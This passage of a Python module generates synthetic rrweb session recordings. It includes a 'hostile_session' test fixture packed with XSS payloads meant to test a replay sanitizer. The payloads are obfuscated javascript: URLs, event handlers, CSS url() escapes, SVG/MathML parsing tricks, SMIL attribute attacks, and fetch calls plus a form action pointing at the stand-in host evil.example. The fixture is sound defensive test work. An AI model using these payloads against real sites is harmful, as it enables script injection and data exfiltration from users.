}


def generate_session(n_events: int, duration_ms: int = 4 * 3600 * 1000, seed: int = 0,
                     start_ms: int = 1_700_000_000_000, profile: str = DEFAULT_PROFILE) -> Iterator[Raw]:
    """Stream exactly `n_events` raw rrweb events spanning `duration_ms` (see the module
    docstring). Each event is a fresh dict, safe to keep or mutate. Quiet stretches stay
    under 15 min as long as `duration_ms / n_events` does too. `profile` (PROFILES) picks
    the workload; the default one's output never changes for a seed."""
    if n_events < 0 or duration_ms < 0:
        raise ValueError("n_events and duration_ms must be >= 0")
    if profile not in PROFILES:
        raise ValueError(f"unknown profile {profile!r}: one of {', '.join(PROFILES)}")
    rng = random.Random(seed)
    if profile == DEFAULT_PROFILE:
        clock = _timestamps(n_events, duration_ms, start_ms, random.Random(seed ^ 0x5EED))
        app = _App(rng, start_ms, n_events)
    else:
        schedule = _Schedule(n_events, duration_ms, _RealApp.TURNS)
        clock = schedule.timestamps(duration_ms, start_ms, random.Random(seed ^ 0x5EED))
        app = _RealApp(rng, start_ms, n_events, schedule)
    stream = app.run()
    k = 0
    for t in clock:
        app.now = t
        app.k = k
        etype, data = next(stream)
        k += 1
        yield {"type": etype, "data": data, "timestamp": t}


# --- a hostile recording for the sanitizer's tests --------------------------------------------------
HOSTILE_MARK = "pwned"           # in every executable payload: must never survive sanitizing
HOSTILE_HOST = "evil.example"    # every remote resource points here: must never be fetched
HOSTILE_INERT = "inert-text"     # in text that should survive as visible, escaped text
HOSTILE_FLAG = "__hostileRan"    # the global every payload sets if it ever runs (tests read it)


def hostile_session(start_ms: int = 1_700_000_000_000, host: str = HOSTILE_HOST) -> list[Raw]:
    """A small, valid rrweb recording stuffed with what a player must neutralise: inline
    and remote scripts (also inside SVG, also as `svg:script`), on* handlers in any case,
    javascript:/vbscript:/data: URLs with case, whitespace and control-character tricks,
    srcdoc and remote iframes, data: documents, remote images/srcset/CSS (url() in its
    escaped forms, @import, @font-face, image-set, <link> stylesheet/preload/prefetch/icon,
    _cssText, style attributes, a url() after a string a CR or FF ends), URL-taking SVG presentation attributes (fill, mask, filter,
    marker-*, cursor, ...), SMIL <set>/<animate> aimed at href, handlers and url()s, markup
    hidden in the text of raw-text and foreign-content elements (an SVG/MathML <style> is
    parsed as markup by a browser), nodes recorded before <head>, an rr_dataURL that breaks
    out of CSS, <meta http-equiv=refresh>, <base href>, form actions and formaction,
    <object>/<embed>, ping — in the FullSnapshot and again through mutations, later
    attribute changes, text changes of <style>s (one aimed at the element itself) and a
    CSSOM insertRule.

    Every executable payload contains HOSTILE_MARK and sets `window[HOSTILE_FLAG]`, every
    remote URL points at `host` (default HOSTILE_HOST; a test passes a loopback canary).
    Markup meant to stay visible or inert *text* contains HOSTILE_INERT (and no host)."""
    ids = _Ids()
    m, h = HOSTILE_MARK, host

    def run(tag: str) -> str:   # what a handler would do: flag it, and call the canary
        return f"window.{HOSTILE_FLAG}='{m}-{tag}';fetch('//{h}/{m}-{tag}')"

    def markup(tag: str) -> str:   # markup that must stay text: runs only if re-parsed
        return (f"<img src=x onerror=\"window.{HOSTILE_FLAG}='{HOSTILE_INERT}-{tag}'\">"
                f"<svg onload=\"window.{HOSTILE_FLAG}='{HOSTILE_INERT}-{tag}-svg'\"></svg>")

    svg = lambda tag, attrs=None, kids=None: E(tag, attrs or {}, kids or [], svg=True)  # noqa: E731
    style = E("style", {}, [T(f"@import url('https://{h}/import.css');\n"
                              f"body {{ background: url(https://{h}/bg.png) }}\n"
                              ".card { color: #333 }", style=True)])
    css_classics = E("style", {}, [T(
        f"@import 'http://{h}/i1.css'; @import url(http://{h}/i2.css) screen;\n"
        f"@\\69mport 'http://{h}/i3.css';\n"
        f"@font-face {{ font-family: x; src: url(http://{h}/f.woff2) format('woff2'),"
        f" local(x), url('//{h}/f2.woff') }}\n"
        f".u1 {{ background: \\75 rl(http://{h}/u1.png) }}\n"
        f".u2 {{ background: u\\72l(http://{h}/u2.png) }}\n"
        f".u3 {{ background: url(http\\3a //{h}/u3.png) }}\n"
        f".u4 {{ background: URL( \"http://{h}/u4.png\" ) }}\n"
        f".u5 {{ background-image: image-set('http://{h}/u5.png' 1x, url(http://{h}/u5b.png) 2x) }}\n"
        f".u6 {{ background-image: -webkit-image-set(\"http://{h}/u6.png\" 1x) }}\n"
        f".u7 {{ cursor: url(http://{h}/u7.cur), auto; list-style: url(http://{h}/u7.png) }}\n"
        f".u8 {{ mask-image: url(http://{h}/u8.svg); border-image: url(http://{h}/u8b.png) 30 }}\n"
        f".u9::after {{ content: '</style>{markup('css-string')}' }}\n"
        f"@namespace x url(http://{h}/ns);", style=True)])
    # CSS reads CR, CRLF and FF as one newline, which ends a string: a scanner that sees only
    # LF takes the url() after it for string content (each rule styles an element on show)
    css_newlines = E("style", {}, [T(
        f"h1 {{ x: \"\r; background-image: url(http://{h}/bad-string-cr.png); y: \"\r}}\n"
        f"details {{ x: \"\f; background-image: url(http://{h}/bad-string-ff.png); y: \"\f}}\n"
        f"p {{ x: '\\\r\n' ; background-image: url(http://{h}/string-crlf.png); y: ''}}\n",
        style=True)])
    head = E("head", {}, [
        E("meta", {"charset": "utf-8"}),
        E("meta", {"http-equiv": "Refresh", "content": f"0; url=http://{h}/refresh"}),
        E("base", {"href": f"http://{h}/"}),
        E("title", {}, [T("Hostile page")]),
        E("script", {}, [T(run("inline-script"))]),
        E("script", {"src": f"https://{h}/{m}.js", "type": "module"}),
        E("svg:script", {}, [T(run("head-svg-prefixed-script"))], svg=True),
        E("link", {"rel": "stylesheet", "href": f"http://{h}/{m}.css"}),
        E("link", {"rel": "stylesheet", "href": f"https://{h}/inlined.css",
                   "_cssText": f"body {{ background-image: url(\"http://{h}/csstext.png\") }}"}),
        E("link", {"rel": "preload", "as": "script", "href": f"http://{h}/preload.js"}),
        E("link", {"rel": "preload", "as": "image", "imagesrcset": f"http://{h}/pre-1x.png 1x"}),
        E("link", {"rel": "prefetch", "href": f"http://{h}/prefetch"}),
        E("link", {"rel": "modulepreload", "href": f"http://{h}/modulepreload.js"}),
        E("link", {"rel": "icon", "href": f"http://{h}/favicon.ico"}),
        E("link", {"rel": "dns-prefetch preconnect", "href": f"http://{h}/"}),
        E("link", {"rel": "manifest", "href": f"http://{h}/manifest.json"}),
        style, css_classics, css_newlines,
    ])
    victim_div = E("div", {"class": "card", "id": "victim"}, [T("Plain card")])
    victim_a = E("a", {"href": "/safe"}, [T("Safe link")])
    victim_style_text = style.kids[0]
    sheet_style = E("style", {}, [T(".x { color: red }", style=True)])
    user_input = E("input", {"type": "text", "name": "q", "value": "hello"})
    victim_rect = svg("rect", {"width": "10", "height": "10", "fill": "red"})
    victim_set = svg("set", {"attributeName": "fill", "to": "blue", "begin": "0s"})
    victim_svg_style_text = T("circle { fill: green }")
    victim_canvas = E("canvas", {"width": "20", "height": "20"})
    url_attrs = {k: f"url(http://{h}/{k}.svg#a)" for k in
                 ("fill", "stroke", "mask", "clip-path", "filter", "marker-start", "marker-mid",
                  "marker-end", "cursor")}
    body = E("body", {"onload": run("onload"), "class": "page", "background": f"http://{h}/body-bg.png"}, [
        E("h1", {"onclick": run("onclick-h1")}, [T("A hostile recording")]),
        E("a", {"href": f"javascript:{run('href')}"}, [T("js link")]),
        E("a", {"href": f"  JaVaScRiPt:{run('case')}"}, [T("mixed-case js link")]),
        E("a", {"href": f"java\tscript:{run('tab')}"}, [T("tab js link")]),
        E("a", {"href": f"\x01javascript:{run('ctrl')}"}, [T("control-char js link")]),
        E("a", {"href": f"&#106;avascript:{run('entity')}"}, [T("entity js link")]),
        E("a", {"href": f"vbscript:msgbox('{m}-vb')"}, [T("vbscript link")]),
        E("a", {"href": f"data:text/html,<script>{run('data')}</script>"}, [T("data link")]),
        E("a", {"href": f"https://{h}/away", "target": "_blank", "ping": f"http://{h}/ping"}, [T("remote link")]),
        E("img", {"src": f"http://{h}/track.gif", "onerror": run("onerror"),
                  "ONCLICK": run("upper"), "srcset": f"http://{h}/a.png 1x, https://{h}/b.png 2x",
                  "alt": "tracker"}),
        E("picture", {}, [E("source", {"srcset": f"http://{h}/source.webp", "type": "image/webp"}),
                          E("img", {"src": f"http://{h}/picture.png", "loading": "eager"})]),
        E("input", {"type": "image", "src": f"http://{h}/input.png", "autofocus": "", "onfocus": run("autofocus")}),
        E("details", {"open": "", "ontoggle": run("toggle")}, [T("details")]),
        E("iframe", {"srcdoc": f"<script>{run('srcdoc')}</script>", "width": "300", "height": "80"}),
        E("iframe", {"src": f"http://{h}/frame", "width": "300", "height": "80"}),
        E("iframe", {"src": f"data:text/html,<script>{run('data-iframe')}</script>"}),
        E("iframe", {}, [T(f"</iframe>{markup('iframe-text')}")]),
        E("form", {"action": f"http://{h}/steal", "method": "post"}, [
            user_input,
            E("button", {"formaction": f"javascript:{run('formaction')}"}, [T("Send")]),
        ]),
        E("object", {"data": f"http://{h}/{m}.swf", "type": "application/x-shockwave-flash"}),
        E("object", {"data": f"data:text/html,<script>{run('data-object')}</script>"}),
        E("embed", {"src": f"http://{h}/{m}-embed.swf"}),
        E("embed", {"src": f"data:image/svg+xml,<svg onload=\"{run('data-embed')}\"/>"}),
        E("svg", {"width": "40", "height": "40", "onload": run("svg-onload")}, [
            svg("use", {"href": f"http://{h}/sprite.svg#icon", "xlink:href": f"http://{h}/sprite.svg#icon2"}),
            svg("script", {}, [T(run("svg-script"))]),
            svg("svg:script", {}, [T(run("svg-prefixed-script"))]),
            svg("svg:style", {}, [T(f"circle {{ fill: red }} {markup('svg-prefixed-style')}")]),
            svg("style", {}, [T(f"</style>{markup('svg-style')}")]),
            svg("style", {}, [victim_svg_style_text]),
            svg("title", {}, [E("style", {}, [T(f"</style>{markup('svg-title-style')}")])]),
            svg("a", {"xlink:href": f"javascript:{run('svg-link')}"}, [svg("text", {}, [T("svg link")])]),
            svg("image", {"href": f"http://{h}/svg-image.png"}),
            svg("feImage", {"href": f"http://{h}/feimage.png"}),
            svg("rect", dict(url_attrs, width="10", height="10")),
            svg("rect", {"width": "5", "height": "5", "fill": f"\\75 rl(http://{h}/fill-escaped.svg#a)",
                         "stroke": f"URL( 'http://{h}/stroke-quoted.svg#a' )"}),
            svg("a", {"href": "#x"}, [svg("set", {"attributeName": "href", "to": f"javascript:{run('smil-set')}"}),
                                      svg("text", {}, [T("smil")])]),
            svg("a", {}, [svg("animate", {"attributeName": "xlink:href", "values": f"http://{h}/smil-values"}),
                          svg("set", {"attributeName": "onclick", "to": run("smil-handler")})]),
            svg("rect", {"width": "5", "height": "5"}, [
                svg("animate", {"attributeName": "fill", "values": f"url(http://{h}/smil-fill.svg#a);red",
                                "dur": "1s"}),
                svg("set", {"attributeName": "filter", "to": f"url(http://{h}/smil-filter.svg#f)"}),
                svg("animate", {"attributeType": "CSS", "attributeName": "background-image",
                                "to": f"url(http://{h}/smil-css.png)"})]),
            victim_rect,
            svg("g", {}, [victim_set]),
            svg("foreignObject", {"width": "20", "height": "20"}, [
                E("div", {"style": f"background: url(http://{h}/fo.png)"}, [T("in foreignObject")])]),
        ]),
        E("math", {}, [
            E("style", {}, [T(f"</style>{markup('math-style')}")]),
            E("mtext", {}, [E("table", {}, [E("mglyph", {}, [
                E("style", {}, [T(f"</style>{markup('mglyph-style')}")])])])]),
            E("mi", {"href": f"javascript:{run('math-href')}"}, [T("x")]),
        ]),
        E("div", {"style": f"background: url(http://{h}/style-attr.png); color: blue",
                  "onMouseOver": run("mouseover")}, [T("styled div")]),
        E("canvas", {"rr_dataURL": f"data:image/png;base64,AAAA\"); background-image: url(http://{h}/dataurl.png); x: (\""}),
        E("img", {"rr_dataURL": f"data:image/png,\" onerror=\"{run('rr-dataurl-img')}"}),
        E("video", {"src": f"http://{h}/movie.mp4", "poster": f"http://{h}/poster.jpg", "autoplay": ""},
          [E("source", {"src": f"http://{h}/source.mp4"}), E("track", {"src": f"http://{h}/track.vtt", "default": ""})]),
        E("audio", {"src": f"http://{h}/audio.mp3", "autoplay": ""}),
        E("table", {"background": f"http://{h}/table-bg.png"}, [E("tbody", {}, [E("tr", {}, [E("td", {}, [T("cell")])])])]),
        E("p", {}, [T(f"<script>alert('{HOSTILE_INERT}')</script> is shown as text, not run")]),
        E("title", {}, [T(f"</title>{markup('title-text')}")]),
        E("textarea", {}, [T(f"</textarea>{markup('textarea-text')}")]),
        E("noscript", {}, [T(f"</noscript>{markup('noscript-text')}")]),
        E("noembed", {}, [T(f"</noembed>{markup('noembed-text')}")]),
        E("noframes", {}, [T(f"</noframes>{markup('noframes-text')}")]),
        E("xmp", {}, [T(f"</xmp>{markup('xmp-text')}")]),
        E("template", {}, [E("img", {"src": f"http://{h}/template.png", "onerror": run("template")})]),
        E("marquee", {"onstart": run("marquee")}, [T("marquee")]),
        victim_div, victim_a, sheet_style, victim_canvas,
    ])
    # recorded before <head>: a parser would close <head> here and ignore a CSP meta after it
    before_head = E("div", {"id": "before-head"}, [T("recorded before the head")])
    html = E("html", {"lang": "en"}, [before_head, head, body])
    doc = E("#doc")
    doc.id = ids.next
    ids.next += 1
    doctype_id = ids.next
    ids.next += 1
    snap = {"type": 0, "childNodes": [{"type": 1, "name": "html", "publicId": "", "systemId": "", "id": doctype_id},
                                      ids.serialize(html)], "id": doc.id}
    t = start_ms
    events: list[Raw] = [
        {"type": _META, "data": {"href": "https://hostile.example/page", "width": 1024, "height": 768}, "timestamp": t},
        {"type": _FULL, "data": {"node": snap, "initialOffset": {"left": 0, "top": 0}}, "timestamp": t + 5},
    ]

    def ev(data: Raw, dt: int) -> None:
        events.append({"type": _INC, "data": data, "timestamp": t + dt})

    added_script = E("script", {}, [T(run("added-script"))])
    added_iframe = E("iframe", {"srcdoc": f"<img src=x onerror=\"{run('added-srcdoc')}\">"})
    added_img = E("img", {"src": f"http://{h}/added.png", "onload": run("added-onload")})
    added_meta = E("meta", {"http-equiv": "refresh", "content": f"1;url=javascript:{run('meta-js')}"})
    added_svg = svg("svg", {"width": "10", "height": "10"}, [
        svg("svg:script", {}, [T(run("added-svg-prefixed-script"))]),
        svg("style", {}, [T(f"</style>{markup('added-svg-style')}")]),
        svg("circle", {"r": "4", "fill": f"url(http://{h}/added-fill.svg#a)"})])
    ev(_mutation(adds=ids.adds(body, added_script, None))[1], 1000)
    ev(_mutation(adds=ids.adds(body, added_iframe, None) + ids.adds(body, added_img, None))[1], 1500)
    ev(_mutation(adds=ids.adds(head, added_meta, None) + ids.adds(body, added_svg, None))[1], 1800)
    ev(_mutation(attributes=[
        {"id": victim_div.id, "attributes": {"onclick": run("attr-onclick"),
                                             "style": f"background-image: url('http://{h}/attr-style.png')"}},
        {"id": victim_a.id, "attributes": {"href": f"javascript:{run('attr-href')}", "ping": f"http://{h}/attr-ping"}},
        {"id": victim_rect.id, "attributes": {"fill": f"url(http://{h}/attr-fill.svg#a)",
                                              "mask": f"url(http://{h}/attr-mask.svg#m)"}},
        {"id": victim_canvas.id, "attributes": {"rr_dataURL": f"data:image/png,\"); background: url(http://{h}/attr-dataurl.png"}},
    ])[1], 2000)
    ev(_mutation(attributes=[{"id": victim_div.id, "attributes": {"style": {"background": f"url(http://{h}/style-diff.png)"}}}])[1], 2200)
    # a harmless animation turned against href after the fact
    ev(_mutation(attributes=[{"id": victim_set.id, "attributes": {"attributeName": "href",
                                                                 "to": f"http://{h}/smil-later"}}])[1], 2300)
    ev(_mutation(texts=[{"id": victim_style_text.id,
                         "value": f"@import 'http://{h}/mutated.css'; .card {{ background: url(//{h}/mutated.png) }}"},
                        {"id": victim_svg_style_text.id, "value": f"</style>{markup('svg-style-text-change')}"},
                        # aimed at the <style> element itself, not at its text node
                        {"id": css_newlines.id, "value": f"@import 'http://{h}/text-on-style.css';"
                                                        f" h1 {{ background-image: url(//{h}/text-on-style.png) }}"}])[1], 2500)
    ev({"source": _SHEET, "id": sheet_style.id, "adds": [
        {"rule": f".y {{ background: url(http://{h}/rule.png) }}", "index": 1}]}, 3000)
    ev({"source": _INPUT, "text": f"\"><script>alert('{HOSTILE_INERT}')</script>", "isChecked": False,
        "userTriggered": True, "id": user_input.id}, 3500)
    ev({"source": _MI, "type": _CLICK, "id": victim_a.id, "x": 10, "y": 10, "pointerType": 0}, 4000)
    return events


# --- command line --------------------------------------------------------------------------------
def add_profile_arg(ap: argparse.ArgumentParser) -> None:
    """`--profile NAME`: the generator's workload (this CLI and the benchmarks share it)."""
    ap.add_argument("--profile", choices=list(PROFILES), default=DEFAULT_PROFILE,
                    help="the workload to generate (if not given: %(default)s): "
                         + "; ".join(f"{k} = {v}" for k, v in PROFILES.items()))


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m replay_tools.generator",
                                 description="Write a synthetic rrweb recording as a JSON array.")
    ap.add_argument("--events", type=int, default=10_000, help="number of events (default 10000)")
    ap.add_argument("--duration-ms", type=int, default=None,
                    help="time span in ms (default: 4 h for >= 100k events, else 15 ms per event)")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--start-ms", type=int, default=1_700_000_000_000)
    add_profile_arg(ap)
    ap.add_argument("--hostile", action="store_true", help="write the small hostile recording instead")
    ap.add_argument("-o", "--output", default="-", help="output file (default: stdout)")
    args = ap.parse_args(argv)
    if args.hostile:
        events: Any = hostile_session(args.start_ms)
    else:
        if args.events < 0:
            ap.error("--events must be >= 0")
        duration = args.duration_ms
        if duration is None:
            duration = 4 * 3600 * 1000 if args.events >= 100_000 else max(60_000, args.events * 15)
        events = generate_session(args.events, duration, args.seed, args.start_ms, args.profile)
    out = sys.stdout.buffer if args.output == "-" else open(args.output, "wb")
    try:
        out.write(b"[")
        for i, e in enumerate(events):
            if i:
                out.write(b",\n")
            out.write(encode_json(e))
        out.write(b"]\n")
    finally:
        if out is not sys.stdout.buffer:
            out.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
